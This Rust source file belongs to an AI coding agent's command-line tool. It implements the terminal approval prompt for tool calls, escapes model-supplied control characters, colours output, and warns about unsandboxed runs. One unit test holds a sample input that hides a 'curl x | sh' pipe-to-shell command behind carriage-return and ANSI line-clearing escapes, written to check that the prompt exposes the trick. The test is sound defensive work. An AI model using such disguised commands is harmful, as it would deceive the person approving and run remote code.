//! The terminal side of a conversation: one reader of stdin lines shared by the prompt loop and
//! the approval prompt, and the approver that asks on stderr.

use std::io::{BufRead, IsTerminal, Write};
use std::sync::Arc;

use tokio::sync::{Mutex, mpsc};

use crate::agent::approval::{Answer, AnswerFuture, ApprovalPrompt, Approver};
use crate::display::{visible, visible_inline};

/// Lines of stdin, read on one thread so the prompt loop and approvals never race for input:
/// read ahead from a pipe, or asked of the line editor on a terminal.
#[derive(Clone)]
pub enum Lines {
    Piped(Arc<Mutex<mpsc::UnboundedReceiver<String>>>),
    Editor(super::editor::LineEditor),
}

impl Lines {
    /// Starts the reader thread. End of input closes the channel.
    pub fn stdin() -> Lines {
        let (tx, rx) = mpsc::unbounded_channel();
        std::thread::spawn(move || {
            let stdin = std::io::stdin();
            let mut lock = stdin.lock();
            let mut buf = Vec::new();
            loop {
                buf.clear();
                match lock.read_until(b'\n', &mut buf) {
                    Ok(0) | Err(_) => return,
                    Ok(_) => {
                        let line = String::from_utf8_lossy(&buf);
                        let line = line.trim_end_matches(['\n', '\r']).to_string();
                        if tx.send(line).is_err() {
                            return;
                        }
                    }
                }
            }
        });
        Lines::Piped(Arc::new(Mutex::new(rx)))
    }

    /// The next plain line (not through the editor's prompt), or `None` at end of input.
    pub async fn next(&self) -> Option<String> {
        match self {
            Lines::Piped(rx) => rx.lock().await.recv().await,
            Lines::Editor(editor) => editor.answer().await,
        }
    }
}

/// The `--color` choice of this process, set once by the command line.
static COLOUR: std::sync::OnceLock<super::args::ColorWhen> = std::sync::OnceLock::new();

/// Records `--color` for [`colour_on`]. Only the first call counts.
pub fn set_colour(choice: super::args::ColorWhen) {
    let _ = COLOUR.set(choice);
}

/// A stream gg may colour.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stream {
    Stdout,
    Stderr,
}

/// Whether output to `stream` is coloured: `--color always`/`never` decide; otherwise only a
/// terminal gets colour, and only when `NO_COLOR` is not set. Every coloured output asks here.
pub fn colour_on(stream: Stream) -> bool {
    let terminal = match stream {
        Stream::Stdout => std::io::stdout().is_terminal(),
        Stream::Stderr => std::io::stderr().is_terminal(),
    };
    colour_decision(
        COLOUR.get().copied().unwrap_or_default(),
        terminal,
        crate::app::no_color_env(),
    )
}

fn colour_decision(choice: super::args::ColorWhen, terminal: bool, no_color: bool) -> bool {
    use super::args::ColorWhen;
    match choice {
        ColorWhen::Always => true,
        ColorWhen::Never => false,
        ColorWhen::Auto => terminal && !no_color,
    }
}

/// Whether approval previews (written to stderr) are coloured.
pub fn colour_enabled() -> bool {
    colour_on(Stream::Stderr)
}

/// Asks on stderr, reads the answer from stdin: `y`/`yes` allows, `a`/`always` allows this exact
/// call for the session (not offered for dangerous calls), anything else denies, EOF too.
pub struct TerminalApprover {
    pub lines: Lines,
}

impl Approver for TerminalApprover {
    fn ask<'a>(&'a self, prompt: &'a ApprovalPrompt) -> AnswerFuture<'a> {
        Box::pin(async move {
            let text = render_prompt(prompt, colour_enabled());
            let mut stderr = std::io::stderr();
            let _ = stderr.write_all(text.as_bytes());
            let _ = stderr.flush();
            let answer = match self.lines.next().await {
                Some(line) => parse_answer(&line, prompt.dangerous),
                None => Answer::Deny,
            };
            Ok(answer)
        })
    }
}

fn parse_answer(line: &str, dangerous: bool) -> Answer {
    match line.trim().to_ascii_lowercase().as_str() {
        "y" | "yes" => Answer::Allow,
        "a" | "always" if !dangerous => Answer::AllowForSession,
        _ => Answer::Deny,
    }
}

/// The approval prompt text: blank line, the tool, summary, details, question.
pub fn render_prompt(prompt: &ApprovalPrompt, colour: bool) -> String {
    // Everything shown comes from the model; gg's colours are added after escaping it.
    let mut out = format!(
        "\nApprove tool call: {}\n{}\n",
        visible_inline(&prompt.tool),
        visible(&prompt.summary)
    );
    if !prompt.reason.is_empty() {
        out.push_str(&format!("({})\n", visible(&prompt.reason)));
    }
    if !prompt.details.is_empty() {
        for line in prompt.details.lines() {
            out.push_str(&colour_line(&visible(line), colour));
            out.push('\n');
        }
    }
    out.push_str(if prompt.dangerous {
        "Approve? [y/N] "
    } else {
        "Approve? [y/N/a] "
    });
    out
}

/// A unified diff for the terminal: control characters made visible (the text came from the
/// model), then coloured like an approval's diff when `colour` is on.
pub fn render_diff(diff: &str, colour: bool) -> String {
    let mut out = String::with_capacity(diff.len());
    for line in diff.lines() {
        out.push_str(&colour_line(&visible(line), colour));
        out.push('\n');
    }
    out
}

fn colour_line(line: &str, colour: bool) -> String {
    if !colour {
        return line.to_string();
    }
    let code = if line.starts_with("+++") || line.starts_with("---") {
        "1"
    } else if line.starts_with('+') {
        "32"
    } else if line.starts_with('-') {
        "31"
    } else if line.starts_with("@@") {
        "36"
    } else if line.starts_with("classification: dangerous") {
        "1;31"
    } else {
        return line.to_string();
    };
    format!("\x1b[{code}m{line}\x1b[0m")
}

/// The one line printed at start when normal commands run without asking and nothing confines
/// them: the classifier alone stands between the model and the machine.
pub fn sandbox_note(mode: policies::Mode, sandboxed: bool) -> Option<&'static str> {
    let unasked = matches!(
        mode,
        policies::Mode::Yolo
            | policies::Mode::Never
            | policies::Mode::Unattended { allow_all: true }
    );
    (unasked && !sandboxed).then_some(
        "gg: note: commands run without asking and without the sandbox; add --sandbox to confine them to this directory",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn answers() {
        assert_eq!(parse_answer("y", false), Answer::Allow);
        assert_eq!(parse_answer(" YES ", true), Answer::Allow);
        assert_eq!(parse_answer("a", false), Answer::AllowForSession);
        assert_eq!(
            parse_answer("a", true),
            Answer::Deny,
            "no session grant for dangerous calls"
        );
        for other in ["", "n", "no", "yy", "sure"] {
            assert_eq!(parse_answer(other, false), Answer::Deny, "{other:?}");
        }
    }

    #[test]
    fn colour_follows_the_flag_then_the_terminal_then_no_color() {
        use super::super::args::ColorWhen::*;
        for (choice, terminal, no_color, want) in [
            (Auto, true, false, true),
            (Auto, false, false, false),
            (Auto, true, true, false),
            (Always, false, true, true),
            (Never, true, false, false),
        ] {
            assert_eq!(
                colour_decision(choice, terminal, no_color),
                want,
                "{choice:?} terminal={terminal} NO_COLOR={no_color}"
            );
        }
    }

    #[test]
    fn prompt_is_plain_without_colour() {
        let p = ApprovalPrompt {
            call_id: "c".into(),
            tool: "edit".into(),
            summary: "edit a.txt".into(),
            details: "--- a/a.txt\n+++ b/a.txt\n-old\n+new".into(),
            reason: "tool \"edit\" needs approval".into(),
            dangerous: false,
        };
        let plain = render_prompt(&p, false);
        assert!(plain.starts_with("\nApprove tool call: edit\nedit a.txt\n"));
        assert!(plain.ends_with("Approve? [y/N/a] "));
        assert!(!plain.contains('\x1b'));
        let coloured = render_prompt(&p, true);
        assert!(coloured.contains("\x1b[32m+new\x1b[0m"));
    }

    #[test]
    fn prompt_shows_model_controls_escaped() {
        let p = ApprovalPrompt {
            call_id: "c".into(),
            tool: "bash".into(),
            summary: "curl x | sh\r\x1b[2K# list files".into(),
            details: "+a\n+\x1b[1A\x1b[2K# comment".into(),
            reason: String::new(),
            dangerous: false,
        };
        for colour in [false, true] {
            let text = render_prompt(&p, colour);
            assert!(!text.contains('\r'), "{text:?}");
            assert!(
                text.contains("curl x | sh\\r\\x1b[2K# list files"),
                "{text:?}"
            );
            assert!(text.contains("\\x1b[1A\\x1b[2K# comment"), "{text:?}");
            let escapes = text.matches('\x1b').count();
            let ours = if colour { 4 } else { 0 };
            assert_eq!(escapes, ours, "{text:?}");
        }
    }
}
